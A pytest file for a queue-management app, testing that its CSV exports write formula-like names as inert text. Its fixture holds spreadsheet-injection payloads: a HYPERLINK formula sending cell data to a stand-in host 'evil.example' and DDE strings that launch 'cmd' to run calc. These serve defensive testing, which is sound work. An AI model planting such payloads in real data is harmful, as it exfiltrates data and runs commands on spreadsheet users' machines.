"""CSV exports open in a spreadsheet as text, never as formulas.

A service, counter, agent or office name typed as ``=HYPERLINK(...)`` must not
become a formula in the national team's spreadsheet: every text cell that
starts with = + - @ a tab or a carriage return is written with a leading single
quote (OWASP's advice), in every CSV the app writes. Numbers stay numbers,
negative ones included.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
import time_machine
from flask import Flask

from queue_app.extensions import db
from queue_app.models import Counter, Service, Site, User
from queue_app.quality.export import csv_text

from .conftest import Api, Office
from .quality_helpers import sign_in

NOON = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
DAY = "2026-03-02"
# What a spreadsheet would run, each as a name someone typed.
FORMULAS = {
    "service": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "counter": "+cmd|' /C calc'!A0",
    "agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "site": "-2+3+cmd|' /C calc'!A0",
    "second service": "\t=1+1",
    "english name": "\r=1+1",
}
NUMERIC = ("issued", "served", "no_show", "cancelled", "waiting_mean", "satisfaction_count")


@pytest.fixture
def named_office(app: Flask, office: Office) -> Iterator[Office]:
    """The office with names that are formulas, and one ticket served today."""
    with time_machine.travel(NOON, tick=False):
        with app.app_context():
            site = db.session.get(Site, office.site.id)
            site.name = FORMULAS["site"]
            db.session.get(Service, office.services["CNI"].id).names = {
                "fr": FORMULAS["service"],
                "en": FORMULAS["service"],
            }
            db.session.get(Service, office.services["CASIER"].id).names = {
                "fr": FORMULAS["second service"],
                "en": FORMULAS["english name"],
            }
            db.session.get(Counter, office.counters["g1"].id).name = FORMULAS["counter"]
            db.session.get(User, office.users["agent"].id).full_name = FORMULAS["agent"]
            db.session.commit()
        api = Api(app, office)
        ticket = api.issue("CNI")
        api.issue("CASIER")
        api.open_counter("g1")
        assert api.call_next("g1").status_code == 200
        assert api.post(f"tickets/{ticket['id']}/finish", "agent").status_code == 200
        yield office


def rows_of(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def assert_inert(rows: list[dict[str, str]], *expected: str) -> None:
    """No cell starts a formula; the names are there, quoted; numbers are numbers."""
    cells = [value for row in rows for value in row.values()]
    for value in cells:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    for name in expected:
        assert "'" + name in cells, (name, [row["name"] for row in rows])
    for row in rows:
        for column in NUMERIC:
            if row[column]:
                float(row[column])  # a number, not a quoted text


def test_site_statistics_csv_writes_names_as_text(app: Flask, named_office: Office) -> None:
    api = Api(app, named_office)
    with time_machine.travel(NOON, tick=False):
        response = api.get(f"sites/thies/stats?from={DAY}&to={DAY}&format=csv", "manager")
    rows = rows_of(response)
    assert_inert(rows, FORMULAS["service"], FORMULAS["counter"], FORMULAS["agent"])
    assert_inert(rows, FORMULAS["second service"], FORMULAS["site"])


def test_national_statistics_csv_writes_names_as_text(app: Flask, named_office: Office) -> None:
    api = Api(app, named_office)
    with time_machine.travel(NOON, tick=False):
        response = api.get(f"stats?from={DAY}&to={DAY}", "admin", headers={"Accept": "text/csv"})
    rows = rows_of(response)
    assert_inert(rows, FORMULAS["service"], FORMULAS["site"])
    assert [row["issued"] for row in rows if row["scope"] == "site"] == ["2"]


def test_the_admin_export_writes_names_as_text(app: Flask, named_office: Office) -> None:
    client = app.test_client()
    with time_machine.travel(NOON, tick=False):
        sign_in(client, named_office.users["admin"].email)
        one = client.get(f"/admin/export.csv?site=thies&from={DAY}&to={DAY}")
        every = client.get(f"/admin/export.csv?from={DAY}&to={DAY}")
    assert_inert(rows_of(one), FORMULAS["service"], FORMULAS["counter"], FORMULAS["agent"])
    assert_inert(rows_of(every), FORMULAS["service"], FORMULAS["site"])


def test_only_text_cells_are_neutralised() -> None:
    text = csv_text(
        [
            ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a=1", "", "Ndiaye"],
            [-3, -2.5, 0, 7, None, "2026-03-02", "-", "'=already"],
        ]
    )
    first, second = list(csv.reader(io.StringIO(text)))
    assert first == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a=1", "", "Ndiaye"]
    # Negative numbers stay numbers; an empty value stays empty.
    assert second == ["-3", "-2.5", "0", "7", "", "2026-03-02", "'-", "'=already"]
